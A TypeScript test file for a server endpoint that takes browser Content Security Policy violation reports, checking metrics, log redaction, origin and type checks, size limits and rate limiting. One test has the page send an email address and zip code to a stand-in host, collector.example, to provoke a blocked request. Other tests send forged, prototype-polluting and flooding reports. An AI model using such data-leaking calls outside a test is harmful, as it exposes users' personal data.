import { startTelemetry, type Telemetry } from '@dining/serving'
import { freePort } from '@dining/serving/free-port'
import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, inject, it } from 'vitest'

import { startHubSite, type HubSite } from '../testing/hub-site.ts'
import { serveWeb } from '../testing/served.ts'

let site: HubSite
let browser: Browser
let telemetry: Telemetry
let web: Awaited<ReturnType<typeof serveWeb>>
let closers: (() => Promise<unknown>)[] = []

beforeAll(async () => {
  const { path, args } = inject('chromium')
  browser = await chromium.launch({ executablePath: path, args: [...args] })
  site = await startHubSite()
})
afterAll(async () => {
  for (const close of closers) await close()
  await site.close()
  await browser.close()
})
beforeEach(async () => {
  for (const close of closers) await close()
  const started = await startTelemetry('web', {
    METRICS_PORT: 0,
    METRICS_HOST: '127.0.0.1',
    OTEL_EXPORTER_OTLP_ENDPOINT: undefined,
    OTEL_TRACES_SAMPLER_ARG: 1,
  })
  if (!started.ok) throw new Error(started.error)
  telemetry = started.value
  const port = await freePort()
  const own = { PORT: port, PUBLIC_ORIGIN: `http://127.0.0.1:${port}`, METRICS_PORT: 0, MEASURED_SHARE: 0, PROXIES_IN_FRONT: 1 }
  web = await serveWeb(site.build.dist, site.apiServer.url, own, telemetry)
  closers = [web.close, telemetry.close]
})

/** Reports that were counted, with all of these labels. */
async function counted(...labels: readonly string[]): Promise<number> {
  const text = await (await fetch(`http://127.0.0.1:${telemetry.metricsPort}/metrics`)).text()
  const lines = text
    .split('\n')
    .filter((line) => line.startsWith('browser_policy_violations_total{') && labels.every((label) => line.includes(label)))
  return lines.reduce((sum, line) => sum + Number(line.split(' ').at(-1)), 0)
}
const lines = () => web.log.filter(({ event }) => event === 'policy violation')

let clients = 0
interface Sender {
  readonly type?: string
  readonly origin?: string
  readonly from?: string
}
const post = (
  body: unknown,
  { type = 'application/reports+json', origin = web.origin, from = `198.18.1.${(clients += 1)}` }: Sender = {},
) =>
  fetch(`${web.origin}/policy-reports`, {
    method: 'POST',
    headers: { origin, 'content-type': type, 'x-forwarded-for': from },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
const violation = (body: Readonly<Record<string, unknown>>) => [
  {
    type: 'csp-violation',
    age: 1,
    url: web.origin,
    user_agent: 'x',
    body: { documentURL: `${web.origin}/search?location=10001#ann`, ...body },
  },
]

it('takes what a browser reports about a blocked script, and logs neither the query nor the fragment of an address', async () => {
  const context = await browser.newContext({ serviceWorkers: 'block' })
  const page = await context.newPage()
  await page.goto(`${web.origin}/search?location=10001#ann@example.com`)
  await page.locator('html[data-hydrated]').waitFor({ state: 'attached' })
  await page.evaluate(() => void fetch('https://collector.example/x?email=ann@example.com').catch(() => undefined))
  await page
    .evaluate(() => {
      document.createElement('script').src = 'https://collector.example/y.js?zip=10001'
    })
    .catch(() => undefined)
  await expect.poll(() => counted('directive="connect-src"', 'blocked="elsewhere"')).toBeGreaterThan(0)
  await expect.poll(() => counted('directive="require-trusted-types-for"', 'blocked="trusted-types-sink"')).toBeGreaterThan(0)
  expect(lines().map(({ path }) => path)).toContain('/search')
  expect(lines().map(({ cause }) => cause)).toContainEqual(expect.stringMatching(/^connect-src enforce https:\/\/collector\.example/))
  expect(JSON.stringify(web.log)).not.toMatch(/10001|ann|zip/)
  await context.close()
})

it('takes the older form of report-uri, too', async () => {
  const report = {
    'csp-report': {
      'document-uri': `${web.origin}/search?q=1`,
      'violated-directive': 'img-src',
      'blocked-uri': 'https://x.example/a?b=c',
      disposition: 'report',
    },
  }
  expect((await post(report, { type: 'application/csp-report' })).status).toBe(204)
  expect(await counted('directive="img-src"', 'disposition="report"')).toBe(1)
  expect(lines()[0]).toMatchObject({ path: '/search', cause: 'img-src report https://x.example' })
})

it.each([
  ['of another type', () => post('x', { type: 'text/plain' }), 415],
  ['of another site', () => post(violation({ effectiveDirective: 'img-src' }), { origin: 'https://other.example' }), 403],
  ['that is no JSON', () => post('{'), 400],
  ['of another kind', () => post([{ type: 'deprecation', body: {} }]), 400],
  ['that is too large', () => post(`[${'1,'.repeat(40_000)}1]`), 413],
  ['with a prototype', () => post('{"__proto__":{"type":"csp-violation"}}'), 400],
  ['with a number as an address', () => post(violation({ blockedURL: 1 })), 400],
])('refuses a report %s', async (_, send, status) => {
  expect((await send()).status).toBe(status)
  expect(await counted()).toBe(0)
})

it('a forger makes no metric, no label and few lines of the log', async () => {
  for (let at = 0; at < 30; at++) {
    const body = violation({
      effectiveDirective: `forged-${at}\n`,
      blockedURL: `https://u${at}.example/secret`,
      sourceFile: `${web.origin}/assets/a.js?token=1`,
      lineNumber: at,
    })
    expect((await post([...body, ...body], { from: `203.0.113.${at % 5}` })).status).toBeLessThan(500)
  }
  const text = await (await fetch(`http://127.0.0.1:${telemetry.metricsPort}/metrics`)).text()
  expect(text).not.toMatch(/forged|secret|u\d+\.example/)
  expect(await counted('directive="other"')).toBe(await counted())
  // Six of each client; twice, if a minute begins meanwhile.
  expect(lines().length).toBeGreaterThan(0)
  expect(lines().length).toBeLessThanOrEqual(60)
  expect(JSON.stringify(web.log)).not.toMatch(/forged|secret|token/)
})

it('extensions of a browser are counted and not logged', async () => {
  await post(violation({ effectiveDirective: 'script-src-elem', blockedURL: 'chrome-extension' }))
  await post(violation({ effectiveDirective: 'script-src-elem', blockedURL: 'inline', sourceFile: 'moz-extension://abc/x.js' }))
  expect(await counted('blocked="extension"')).toBe(2)
  expect(lines()).toEqual([])
})

it('a flood is refused, beyond the share of a client', async () => {
  const body = violation({ effectiveDirective: 'img-src', blockedURL: 'data' })
  const statuses = await Promise.all(Array.from({ length: 60 }, async () => (await post(body, { from: '203.0.113.9' })).status))
  expect(new Set(statuses)).toEqual(new Set([204, 429]))
})
